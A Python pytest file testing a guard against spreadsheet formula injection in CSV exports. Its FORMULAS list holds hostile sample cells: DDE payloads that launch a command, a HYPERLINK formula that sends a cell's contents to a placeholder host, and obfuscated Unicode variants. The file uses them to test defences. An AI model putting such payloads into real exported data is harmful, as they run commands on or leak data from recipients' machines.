import csv
import io
from importlib.resources import files

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kg.display.spreadsheet import FORMULA, csv_text, guarded, guarded_cells

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1)',
    "+SUM(1,2)",
    "+1+1",
    "-1+2",
    "-2-3",
    "-A1",
    "@SUM(A1)",
    "+cmd|' /C calc'!A0",
    "+'\\\\x\\y\\[z.xls]s'!a",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u200b=1",
    "\ufeff=1",
    "\x00=1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+2",
    "\uff20SUM\uff08A1)",
    "'=1",
    "''=1",
]
"""What a spreadsheet may run, also behind apostrophes that somebody else has put before it."""

TEXTS = [
    "-girl",
    "-year-old boy",
    "@newsdesk",
    "@",
    "+",
    "-",
    "+972 Magazine",
    "+41 44 123 45 67",
    "-5",
    "-5 %",
    "+1.5e+10",
    "\u2212 3 degrees",
    "'s-Hertogenbosch",
    "'Round Midnight",
    "a=1+1",
    "3 = 3",
    "",
    " ",
    "\U0001f600",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_is_guarded(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", TEXTS)
def test_what_only_begins_like_it_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


@given(st.text() | st.text(alphabet="'=+-@ a1(\t"))
def test_a_guarded_value_can_be_taken_back(text: str) -> None:
    written = guarded(text)
    back = written[1:] if written.startswith("'") and FORMULA.match(written[1:]) else written
    assert back == text
    assert FORMULA.match(written) is None or written.startswith("'")


@given(st.lists(st.sampled_from([*FORMULAS, *TEXTS]) | st.integers(), min_size=1, max_size=5))
def test_a_table_says_how_many_values_are_guarded(row: list[str | int]) -> None:
    table = csv_text(["a"] * len(row), [row])
    assert guarded_cells(table) == sum(cell in FORMULAS for cell in row)
    assert guarded_cells("a\n-1\n") == 0
    (_, read) = csv.reader(io.StringIO(csv_text(["a"] * len(row), [row], raw=True), newline=""))
    assert read == [str(cell) for cell in row]


def test_the_page_has_the_same_rule() -> None:
    script = files("kg.views").joinpath("assets/panels/listing.js").read_text("utf-8")
    assert f"/{FORMULA.pattern}/" in script
